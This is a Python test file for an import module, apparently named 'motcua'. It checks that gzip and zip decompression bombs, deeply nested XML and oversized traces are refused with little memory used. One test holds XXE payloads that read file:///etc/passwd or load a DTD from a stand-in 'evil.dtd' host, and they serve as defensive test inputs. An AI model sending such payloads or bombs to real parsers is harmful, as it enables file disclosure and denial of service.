"""Files that are small on the disk and endless in memory: refused by name, with little held."""

from __future__ import annotations

import gzip
import io
import tracemalloc
import zipfile

import pytest

from motcua.core.dossiers.models import Dossier
from motcua.core.takeover import event_log, lines
from motcua.core.takeover.event_log import NotAnEventLog, shape_of
from motcua.core.takeover.lines import ArchiveBomb, NotATable
from motcua.core.takeover.tests.logs import codes, row, take_bytes, text_of
from motcua.core.takeover.tests.test_event_log import take as take_log
from motcua.core.takeover.tests.xes import log, trace

pytestmark = pytest.mark.usefixtures("house")

DEPTH = 100_000


def peak_of(work) -> int:
    tracemalloc.start()
    try:
        work()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("newline", [b"", b"\n"])
def test_a_packed_table_without_end_is_refused_whole(tmp_path, monkeypatch, newline):
    monkeypatch.setattr(lines, "SMALL", 1 << 20)
    begin = text_of(row()).encode()
    bomb = gzip.compress(begin + (b"x" * 999 + newline) * 40_000)
    assert len(bomb) < 100_000

    def taken() -> None:
        with pytest.raises(ArchiveBomb) as refusal:
            take_bytes(tmp_path, bomb)
        assert str(len(bomb)) in refusal.value.text("vi")

    assert peak_of(taken) < 40_000_000
    assert not Dossier.objects.exists()


def test_a_packed_log_without_end_is_refused_whole(tmp_path, monkeypatch):
    monkeypatch.setattr(lines, "SMALL", 1 << 20)
    bomb = gzip.compress(log(*(trace(f"c{number % 7}") for number in range(40_000))))
    with pytest.raises(ArchiveBomb):
        take_log(tmp_path, bomb)
    assert not Dossier.objects.exists()


def test_what_is_packed_as_real_files_are_is_taken(tmp_path):
    assert take_bytes(tmp_path, gzip.compress(text_of(row()).encode())).created == 1


def test_a_workbook_is_refused_before_it_is_unpacked(tmp_path):
    book = io.BytesIO()
    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as parts:
        parts.writestr("xl/worksheets/sheet1.xml", b"\0" * 50_000_000)

    def taken() -> None:
        with pytest.raises(NotATable):
            take_bytes(tmp_path, book.getvalue())

    assert peak_of(taken) < 5_000_000


def test_elements_in_elements_without_end_are_refused_at_once():
    for tag in (b"string", b"list", b"x"):
        deep = b"<log><trace>" + (b"<" + tag + b' key="a" value="b">') * DEPTH
        with pytest.raises(NotAnEventLog):
            shape_of(io.BytesIO(deep), ())


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE log [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n',
        '<!DOCTYPE log SYSTEM "http://192.0.2.1/evil.dtd">\n',
        "<!DOCTYPE log [<!ENTITY % a \"<!ENTITY b SYSTEM 'file:///etc/passwd'>\">%a;]>\n",
    ],
)
def test_entities_from_elsewhere_are_refused(tmp_path, head):
    with pytest.raises(NotAnEventLog):
        take_log(tmp_path, log(head=head))


def test_a_trace_of_much_text_is_refused_and_the_others_go_on(tmp_path, monkeypatch):
    monkeypatch.setattr(event_log, "MAX_TRACE_SIZE", 4000)
    large = trace(more="".join(f'<string key="k{n}" value="{"x" * 900}"/>' for n in range(9)))
    report = take_log(tmp_path, log(large, trace("c2")))
    assert (report.created, report.refused) == (1, 1)
    assert "takeover.trace_too_large" in {code for _, code in codes(report)}
    assert Dossier.objects.get().external_code == "c2"
